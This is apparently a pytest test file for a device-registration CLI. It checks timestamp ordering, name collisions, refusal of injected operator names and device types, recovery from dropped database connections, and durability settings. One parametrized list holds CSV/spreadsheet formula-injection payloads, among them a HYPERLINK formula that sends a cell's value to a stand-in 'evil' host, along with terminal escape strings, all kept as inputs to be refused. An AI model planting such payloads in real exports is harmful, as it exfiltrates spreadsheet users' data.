"""Defects an outside probe found (reliability round 2), each pinned by the core API on
both backends.  The CLI-level ones are in ``tests/e2e/test_probe_inputs.py``."""

from __future__ import annotations

import io
import json
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
from sqlalchemy import func, select, text

from onenumber_cli import batch, check, services
from onenumber_cli.errors import (
    DatabaseUnavailable,
    DuplicateImei,
    DuplicateName,
    InvalidOperator,
    InvalidTime,
    InvalidType,
)
from onenumber_cli.services import Actor
from onenumber_cli.storage.engine import Database, parse_url
from onenumber_cli.storage.models import audit as AUDIT
from onenumber_cli.storage.unit import Tx
from tests.integration.test_one_account_per_change import snapshot

IMEI = "490154203237518"


def audit_count(db: Database) -> int:
    with db.engine.connect() as conn:
        return int(conn.execute(select(func.count()).select_from(AUDIT)).scalar_one())


@pytest.fixture
def full_one_number(db: Database, actor: Actor) -> str:
    services.service_subscribe(db, actor, "one")
    services.register_device(db, actor, "one", "Watch", name="current")
    return "one"


# --- 2: --at cannot put history out of order ----------------------------------------


def test_replace_back_dated_before_the_latest_event_is_refused_and_changes_nothing(
        db: Database, actor: Actor, full_one_number: str) -> None:
    before = snapshot(db)
    with pytest.raises(InvalidTime) as refused:
        services.register_device(db, actor, full_one_number, "Watch", name="new",
                                 at=datetime(2020, 1, 1, tzinfo=UTC), replace=True)
    assert refused.value.reason == "before_latest"
    assert snapshot(db) == before
    assert list(check.run(db)) == []


def test_at_in_the_future_is_refused_even_within_a_minute(
        db: Database, actor: Actor) -> None:
    services.service_subscribe(db, actor, "m", multi=True)
    soon = datetime.now(UTC) + timedelta(seconds=50)
    with pytest.raises(InvalidTime) as refused:
        services.register_device(db, actor, "m", "Watch", at=soon)
    assert refused.value.reason == "future"


def test_at_equal_to_the_latest_event_is_accepted(db: Database, actor: Actor) -> None:
    services.service_subscribe(db, actor, "m", multi=True)
    base = datetime(2022, 9, 12, tzinfo=UTC)
    services.register_device(db, actor, "m", "A", at=base)
    assert services.register_device(db, actor, "m", "B", at=base).changed
    assert list(check.run(db)) == []


def test_a_clock_behind_the_latest_event_records_that_event_time_instead(
        db: Database, actor: Actor, monkeypatch: pytest.MonkeyPatch) -> None:
    """Another operator's clock ran ahead: changes here never record an earlier time, so a
    device is never unregistered before it was registered."""
    services.service_subscribe(db, actor, "m", multi=True)
    ahead = datetime.now(UTC)
    services.register_device(db, actor, "m", "Watch", name="A")
    device = services.register_device(db, actor, "m", "Watch", name="B").device
    assert device is not None
    monkeypatch.setattr(services, "utcnow", lambda: ahead - timedelta(hours=1))
    services.unregister_device(db, actor, "m", device.id)
    gone = services.show_device(db, "m", device.id)
    assert gone.unregistered_at is not None and gone.unregistered_at >= gone.registered_at
    assert list(check.run(db)) == []


# --- 11: a registered device is always reachable by its name -------------------------


def test_a_device_named_after_an_unregistered_devices_id_is_reached_by_its_name(
        db: Database, actor: Actor) -> None:
    services.service_subscribe(db, actor, "m", multi=True)
    services.register_device(db, actor, "m", "Watch", name="keep")
    old = services.register_device(db, actor, "m", "Watch", name="old").device
    assert old is not None
    services.unregister_device(db, actor, "m", old.id)
    named = services.register_device(db, actor, "m", "Watch", name=old.id).device
    assert named is not None and named.name == old.id
    result = services.unregister_device(db, actor, "m", old.id)  # the name, registered
    assert result.changed and result.device is not None and result.device.id == named.id
    assert services.show_device(db, "m", old.id).id == old.id  # then the id again


def test_a_name_that_is_another_registered_devices_id_or_imei_is_refused(
        db: Database, actor: Actor) -> None:
    services.service_subscribe(db, actor, "m", multi=True)
    other = services.register_device(db, actor, "m", "Watch", name="A", imei=IMEI).device
    mine = services.register_device(db, actor, "m", "Watch", name="B").device
    assert other is not None and mine is not None
    for name in (other.id, IMEI):
        with pytest.raises(DuplicateName) as refused:
            services.rename_device(db, actor, "m", mine.id, name)
        assert refused.value.reason == "reference"
        with pytest.raises(DuplicateName):
            services.register_device(db, actor, "m", "Watch", name=name)
    services.rename_device(db, actor, "m", mine.id, "356938035643809")  # digits: fine
    with pytest.raises(DuplicateImei):  # an IMEI that is another device's name
        services.register_device(db, actor, "m", "Watch", name="C", imei="356938035643809")


# --- 6, 7: operator names and device types ---------------------------------------------


@pytest.mark.parametrize("operator", ["", "a\x1b[2Jb", "line\nbreak", "x" * 129, " padded",
                                      "bidi\u202eevil", "sep\u2028arator"])
def test_an_operator_name_that_could_drive_a_terminal_is_refused(operator: str) -> None:
    with pytest.raises(InvalidOperator):
        Actor(operator)


def test_a_128_character_operator_is_stored_whole_on_both_backends(db: Database) -> None:
    name = "操" * 128
    services.service_subscribe(db, Actor(name), "m")
    assert next(services.list_audit(db, "m")).operator == name


@pytest.mark.parametrize("device_type", ['=HYPERLINK("http://evil/?x="&A1,"Click")', "+1",
                                         "-2+3", "@SUM(A1)", "＝cmd", "\t=cmd", "a\x1bb"])
def test_a_type_a_spreadsheet_would_run_as_a_formula_is_refused(
        db: Database, actor: Actor, device_type: str) -> None:
    services.service_subscribe(db, actor, "m", multi=True)
    before = snapshot(db)
    with pytest.raises(InvalidType):
        services.register_device(db, actor, "m", device_type, name="X")
    assert snapshot(db) == before


# --- 3: a dropped connection ------------------------------------------------------------


def _kill_own_session(tx: Tx, url: str) -> None:
    """Terminate the server process of ``tx``'s session, from another connection."""
    pid = tx._select(select(func.pg_backend_pid()), {})[0][0]
    admin = Database(parse_url(url))
    with admin.engine.begin() as conn:
        conn.execute(text("SELECT pg_terminate_backend(:pid)"), {"pid": pid})
    admin.dispose()


def test_a_connection_killed_mid_transaction_is_retried_on_a_new_one(
        db: Database, db_url: str, actor: Actor) -> None:
    if db.backend != "postgresql":
        pytest.skip("an embedded SQLite connection cannot be dropped by a server")
    services.service_subscribe(db, actor, "m", multi=True)
    device = services.register_device(db, actor, "m", "Watch", name="A").device
    assert device is not None
    attempts = []

    def work(connection: object) -> services.ChangeResult:
        tx = Tx(connection)  # type: ignore[arg-type]
        tx.account("m")  # locked and loaded: the transaction has begun on the server
        attempts.append(1)
        if len(attempts) == 1:
            _kill_own_session(tx, db_url)
        result = services.changes.rename_in(tx, actor, "m", device.id, "Renamed")
        tx.flush()
        return result

    result = db.write(work)
    assert result.changed and len(attempts) == 2
    assert services.show_device(db, "m", device.id).name == "Renamed"
    assert audit_count(db) == 3  # subscribe, register, one rename
    assert list(check.run(db)) == []


def test_a_server_that_stays_away_after_a_lost_connection_is_exit_6_not_internal(
        db: Database, db_url: str, actor: Actor, monkeypatch: pytest.MonkeyPatch) -> None:
    """The connection is lost, and so is every new one: DatabaseUnavailable after a
    bounded number of attempts (no internal error, no endless wait)."""
    if db.backend != "postgresql":
        pytest.skip("an embedded SQLite connection cannot be dropped by a server")
    services.service_subscribe(db, actor, "m", multi=True)
    monkeypatch.setattr("onenumber_cli.storage.engine.RECONNECT_BACKOFF", 0.01)
    away = Database(parse_url(db_url), reconnect_timeout=0.5)

    def work(connection: object) -> None:
        tx = Tx(connection)  # type: ignore[arg-type]
        tx.account("m")
        _kill_own_session(tx, db_url)
        tx.account("n")  # the next statement finds the connection gone

    with pytest.raises(DatabaseUnavailable) as refused:
        away.write(work)
    away.dispose()
    assert refused.value.reason == "lost"


# --- 4, 13: a per-row batch stops at the first database_unavailable ---------------------


def test_a_sqlite_file_deleted_mid_batch_stops_it_at_once_and_loses_nothing_reported(
        db: Database, db_url: str, actor: Actor) -> None:
    if db.backend != "sqlite":
        pytest.skip("a file deleted behind the tool's back is SQLite's case")
    services.service_subscribe(db, actor, "m", multi=True)
    device = services.register_device(db, actor, "m", "Watch", name="N0").device
    assert device is not None
    lines = [json.dumps({"action": "rename", "account": "m", "device": device.id,
                         "name": f"N{i}"}) for i in range(1, 101)]
    stream = io.BytesIO("\n".join(lines).encode())
    path = Path(db_url.removeprefix("sqlite:///"))
    seen = []

    def stop() -> bool:
        seen.append(1)
        if len(seen) == 41:  # before row 41: the file goes
            path.unlink()
        return False

    runner = Database(parse_url(db_url))
    results = []
    with pytest.raises(batch.Unavailable) as stopped:
        for result in batch.apply(runner, lambda: batch.rows(stream, "jsonl"), actor, UTC,
                                  stop=stop):
            results.append(result)
    runner.dispose()
    assert stopped.value.row == 41 and stopped.value.error.reason == "file_replaced"
    assert len(results) == 40 and all(r.ok and r.changed for r in results)


def test_a_batch_row_at_the_calendars_edge_fails_alone_and_the_batch_goes_on(
        db: Database, actor: Actor) -> None:
    services.service_subscribe(db, actor, "m", multi=True)
    rows = [{"action": "register", "account": "m", "type": "W", "name": "A",
             "at": "0001-01-01"},
            {"action": "register", "account": "m", "type": "W", "name": "B",
             "at": "9999-12-31T23:59:59-09:00"},
            {"action": "register", "account": "m", "type": "W", "name": "C"}]
    stream = io.BytesIO("\n".join(json.dumps(r) for r in rows).encode())
    results = list(batch.apply(db, lambda: batch.rows(stream, "jsonl"), actor, UTC))
    assert [(r.ok, r.error and r.error.code) for r in results] == [
        (False, "invalid_time"), (False, "invalid_time"), (True, None)]


# --- durability ---------------------------------------------------------------------------


def test_the_default_sqlite_connection_is_durable(db: Database, db_url: str) -> None:
    """SQLite: ``synchronous = FULL`` (2) unless ``normal`` is asked for.  PostgreSQL: a
    write transaction runs with ``synchronous_commit = on`` even where the session's
    default is off, and with the lock timeout it was given."""
    from sqlalchemy.engine import Connection, make_url

    def settings(connection: Connection) -> tuple[object, ...]:
        if connection.dialect.name == "sqlite":
            return (connection.exec_driver_sql("PRAGMA synchronous").scalar(),)
        return (connection.exec_driver_sql("SHOW synchronous_commit").scalar(),
                connection.exec_driver_sql("SHOW lock_timeout").scalar())

    if db.backend == "sqlite":
        assert db.write(settings) == (2,)
        fast = Database(parse_url(db_url), synchronous="normal")
        assert fast.write(settings) == (1,)
        fast.dispose()
        return
    lazy = make_url(db_url).update_query_dict({"options": "-c synchronous_commit=off"})
    server_default_off = Database(lazy, lock_timeout=0.25)
    with server_default_off.engine.connect() as conn:
        assert conn.exec_driver_sql("SHOW synchronous_commit").scalar() == "off"
    assert server_default_off.write(settings) == ("on", "250ms")
    server_default_off.dispose()
